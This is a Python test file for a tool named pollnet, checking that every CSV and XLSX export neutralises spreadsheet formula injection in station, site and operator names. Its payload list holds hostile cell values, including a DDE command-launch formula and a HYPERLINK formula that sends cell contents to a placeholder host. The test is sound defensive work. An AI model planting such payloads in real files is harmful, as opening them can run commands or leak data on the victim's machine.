"""Formula injection: every file pollnet writes for people to open keeps hostile text as text.

The end-to-end test imports station names, site names and tower operators that a spreadsheet
would run (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``@SUM``, ``+``, ``-``, tab, carriage
return), runs every command that writes CSV or XLSX, and reads every file back.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from pollnet._cells import safe_cell, unquote_cell
from pollnet.cli import main
from pollnet.registry import list_stations
from pollnet.store import open_store

PAYLOADS = (
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
STORED = sorted({p.strip() for p in PAYLOADS})  # import trims spaces, tabs and line breaks
_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _live(value: object) -> bool:
    """Whether a spreadsheet would run ``value`` as a formula."""
    return isinstance(value, str) and value.startswith(_STARTS) and not _NUMBER.fullmatch(value)


@given(st.text())
def test_safe_cells_are_never_formulas_and_read_back_whole(text: str) -> None:
    safe = safe_cell(text)
    assert not _live(safe)
    assert unquote_cell(safe) == text


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert [safe_cell(v) for v in (-12.5, 3, "-12.5", "+98", "1e5", "a=b", "", "'x")] == [
        -12.5, 3, "-12.5", "+98", "1e5", "a=b", "", "'x",
    ]  # fmt: skip
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("'=1+1") == "''=1+1"


def _cells(path: Path) -> list[object]:
    """Every cell of a CSV or XLSX file; an XLSX formula cell is returned as its formula."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            return [cell for row in csv.reader(fh) for cell in row]
    book = load_workbook(path)
    cells: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def _names(engine: Engine) -> list[str]:
    return sorted({s.name for s in list_stations(engine)})


def _run(*args: str | Path) -> None:
    with pytest.raises(SystemExit) as done:
        main(["--lang", "en", *map(str, args)])
    assert done.value.code == 0, args


def test_hostile_names_stay_text_in_every_file_pollnet_writes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    demo = tmp_path / "demo"
    _run("demo", "--out", demo, "--stations", "24")
    db = f"sqlite:///{demo / 'pollnet.db'}"
    monkeypatch.setenv("POLLNET_DB", db)

    # The attacker's station file: hostile names and sites, written raw.
    with (demo / "data" / "stations.csv").open(encoding="utf-8", newline="") as fh:
        header, *rows = list(csv.reader(fh))
    name, site = header.index("name"), header.index("site")
    sites = sorted({row[site] for row in rows})
    for i, row in enumerate(rows):
        row[name] = PAYLOADS[i % len(PAYLOADS)]
        row[site] = f"{PAYLOADS[sites.index(row[site]) % len(PAYLOADS)]} {row[site]}"
    hostile = tmp_path / "hostile.csv"
    with hostile.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *rows])
    _run("stations", "import", hostile)
    engine = open_store(db)
    try:  # stored as given
        assert _names(engine) == STORED
    finally:
        engine.dispose()
    towers = tmp_path / "towers.csv"
    towers.write_text(
        "code,operator,radio,lat,lon\n"
        + "".join(
            f'T{i},"{p.replace(chr(34), chr(34) * 2)}",lte,{lat},{lon}\n'
            for i, (p, (lat, lon)) in enumerate(
                zip(
                    PAYLOADS,
                    [(r[header.index("lat")], r[header.index("lon")]) for r in rows][:7],
                    strict=True,
                )
            )
        ),
        encoding="utf-8",
    )
    _run("towers", "import", towers)
    bad = tmp_path / "bad.csv"
    with bad.open("w", encoding="utf-8", newline="") as fh:
        bad_row = [*rows[1]]
        bad_row[header.index("voters")] = "=1+many"
        csv.writer(fh).writerows([header, bad_row])

    out = tmp_path / "out"
    out.mkdir()
    _run("stations", "export", out / "stations.csv")
    _run("stations", "export", out / "stations.xlsx", "--headers", "fa")
    _run("stations", "import", bad, "--skip-invalid", "--rejects", out / "rejects.csv")
    _run("plan", "--streets", demo / "streets.npz", "--out", out / "plan")
    _run("coverage", "--out", out / "coverage.csv")
    _run("work", "generate")
    _run("work", "export", "--out", out / "work-all.xlsx")
    _run("work", "export", "--agency", "education", "--out", out / "work-education.xlsx")
    _run("report", "weekly", "--out", out / "reports")
    points = tmp_path / "points.csv"
    points.write_text(f'label,lon,lat\n"{PAYLOADS[1]}",{rows[0][6]},{rows[0][5]}\n', "utf-8")
    capsys.readouterr()
    _run("streets", "snap", points, "--cache", demo / "streets.npz")
    (out / "snap.csv").write_text(capsys.readouterr().out, encoding="utf-8")

    files = sorted(p for p in out.rglob("*") if p.suffix in (".csv", ".xlsx"))
    names = {p.relative_to(out).as_posix() for p in files}
    assert {"stations.csv", "stations.xlsx", "rejects.csv", "coverage.csv", "work-all.xlsx",
            "snap.csv"} <= names  # fmt: skip
    assert any(n.startswith("plan/") for n in names)
    assert any(n.startswith("reports/") for n in names)
    reached = set()
    for path in files:
        cells = _cells(path)
        live = [c for c in cells if _live(c)]
        assert not live, (path, live[:3])
        if any(isinstance(c, str) and "cmd|" in c for c in cells):
            reached.add(path.relative_to(out).as_posix())
    # The hostile text did reach the files that show names, sites and operators.
    assert {"stations.csv", "stations.xlsx", "rejects.csv", "coverage.csv", "snap.csv"} <= reached
    assert any(n.startswith("plan/education") for n in reached), reached

    # An exported file imports back unchanged: the added quote is taken off again.
    _run("stations", "import", out / "stations.xlsx")
    engine = open_store(db)
    try:
        assert _names(engine) == STORED
    finally:
        engine.dispose()
